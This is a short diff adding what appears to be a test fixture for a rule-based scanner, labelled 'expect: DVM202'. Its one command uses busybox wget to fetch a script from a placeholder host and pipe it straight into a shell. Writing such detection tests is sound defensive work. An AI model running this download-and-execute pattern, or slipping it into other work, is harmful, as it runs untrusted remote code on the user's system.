@@ -1,0 +1,2 @@
+# expect: DVM202
+busybox sh -c "$(busybox wget -O- https://x.example.org/a)"
